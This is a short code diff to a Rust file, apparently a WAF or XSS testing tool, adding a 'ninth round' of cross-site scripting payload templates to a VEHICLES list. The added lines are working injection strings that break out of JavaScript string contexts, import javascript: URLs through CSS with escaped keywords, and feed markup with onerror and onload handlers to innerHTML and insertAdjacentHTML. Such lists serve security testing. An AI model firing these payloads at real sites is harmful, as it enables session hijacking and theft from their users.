@@ -645,6 +645,23 @@ const VEHICLES: &[&str] = &[
     "<div style=\"\\62 ackground:url(javascript:{c})\">",
     "<div style=\"{}*{x:expression({c})}\">",
     "<div style=\"font-family:'x;background:url(javascript:{c})'\">",
+    // Ninth round (waf-xss9): script strings left after a value the page held, by each
+    // quote and with each way of keeping the rest of the script valid (a comment to the line
+    // end, an HTML-like comment, the string reopened after another operator); CSS imports by
+    // URL and with an escaped keyword; markup handed to DOM parsing sinks.
+    "x');{c}//",
+    "1'-{c}-'",
+    "\\\";{c}//",
+    "'));{c}//",
+    "\"}]);{c};//",
+    "';{c}<!--",
+    "'*{c}*'",
+    "\"&&{c}&&\"",
+    "abc`;{c};`",
+    "@import url(javascript:{c});",
+    "@\\i\\m\\p\\o\\r\\t 'javascript:{c}';",
+    "document.body.innerHTML='<img src=x onerror=\"{c}\">'",
+    "x.insertAdjacentHTML('afterend','<svg onload=\"{c}\">')",
 ];
 
 fn base64(b: &[u8]) -> String {
